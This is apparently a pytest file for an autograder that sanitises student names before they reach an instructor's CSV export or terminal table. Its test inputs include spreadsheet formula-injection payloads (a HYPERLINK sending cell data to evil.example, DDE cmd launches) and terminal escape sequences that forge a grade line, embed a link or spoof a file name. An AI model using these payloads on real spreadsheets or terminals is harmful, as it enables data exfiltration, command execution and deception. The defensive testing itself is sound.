"""Learner text made safe for the instructor's spreadsheet and terminal; the CSV and JSON writers.

The end-to-end cases, submissions graded by `grade`, are in
tests/test_exports_class.py; these check each rule on its own, fast.
"""

import csv
import json

import pytest

from autograder.grading.reports import format_table, format_tables, write_grades_csv, write_json_reports
from autograder.grading.results import SubmissionResult
from autograder.grading.results import TestResult as GradeCell  # pytest collects Test* names
from autograder.grading.safe_text import csv_cell, printable

ASSIGNMENT = "01_softmax_regression"


@pytest.mark.parametrize("attack", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(attack):
    cell = csv_cell(attack)
    assert cell.startswith("'") and attack.strip("\t\r")[:3] in cell
    assert "\t" not in cell and "\r" not in cell


def test_ordinary_cells_and_numbers_are_left_alone():
    assert csv_cell("Jörg Müller") == "Jörg Müller" and csv_cell("李明") == "李明"
    assert csv_cell(92.5) == "92.5" and csv_cell("a=b") == "a=b"


@pytest.mark.parametrize("attack", [
    "ada\x1b[2K\rreference                    100 / 100  -",       # erase the line, print a forged one
    "\x1b]8;;https://evil.example\x07click me\x1b]8;;\x07",         # an OSC 8 hyperlink
    "\x9b31mred\x9b0m",                                             # a C1 control sequence introducer
    "bob\u202egnp.exe",                                             # a right-to-left override
])
def test_terminal_lines_show_escapes_instead_of_running_them(attack):
    shown = printable(attack)
    assert shown.isprintable() and ("\\x" in shown or "\\u" in shown)
    assert not any(ch in shown for ch in "\x1b\x07\x9b\r\n\u202e")


def test_an_undecodable_byte_is_shown_as_its_value():
    name = b"\xff\xfe homework.ipynb".decode("utf-8", "surrogateescape")
    assert printable(name) == "\\xff\\xfe homework.ipynb"


def _result(student, flags=(), pending=False):
    return SubmissionResult(student, ASSIGNMENT,
                            [GradeCell("test_np_linear", 10.0, 10.0),
                             GradeCell("written_dlogits", 0.0 if pending else 3.0, 4.0, manual=True,
                                        needs_manual_grade=pending)],
                            flags=list(flags))


def test_the_grade_table_cannot_be_forged_by_a_name():
    table = format_table([_result("ada\x1b[2K\rreference  100 / 100"), _result("bob")])
    assert len(table.splitlines()) == 4 and "\x1b" not in table and "\r" not in table


def test_demo_tables_have_a_heading_per_assignment():
    rows = [_result("ada"), _result("bob")]
    other = SubmissionResult("ada", "02_gradient_checking", [GradeCell("test_x", 1.0, 1.0)])
    text = format_tables(rows + [other])
    assert text.index(f"== {ASSIGNMENT} ==") < text.index("ada") < text.index("== 02_gradient_checking ==")
    assert text.count("== ") == 2


def test_an_undecodable_name_costs_no_row_and_no_report(tmp_path):
    bad = "bad\udcff\udcfe"
    rows = [_result(bad, flags=["renamed \udcff.ipynb to softmax_regression.ipynb"]), _result("zoe")]
    path = write_grades_csv(rows, tmp_path / "grades.csv", errors=[("eve\udcff", ASSIGNMENT, "is empty")])
    with open(path, encoding="utf-8") as f:
        read = {row["student"]: row for row in csv.DictReader(f)}
    assert set(read) == {"bad\\xff\\xfe", "zoe", "eve\\xff"}
    assert read["bad\\xff\\xfe"]["flags"] == "renamed \\xff.ipynb to softmax_regression.ipynb"
    write_json_reports(rows, [("eve\udcff", ASSIGNMENT, "is empty")], tmp_path / "reports")
    assert len(list((tmp_path / "reports").glob("*.json"))) == 3
    assert json.loads((tmp_path / "reports" / "zoe.json").read_text())["score"] == 13.0


def test_pending_manual_grades_are_pending_not_zero(tmp_path):
    path = write_grades_csv([_result("ada", pending=True), _result("bob")], tmp_path / "grades.csv")
    with open(path, encoding="utf-8") as f:
        read = {row["student"]: row for row in csv.DictReader(f)}
    assert read["ada"]["grade"] == "pending" and read["ada"]["pending_manual"] == "written_dlogits"
    assert read["bob"]["grade"] == "13"
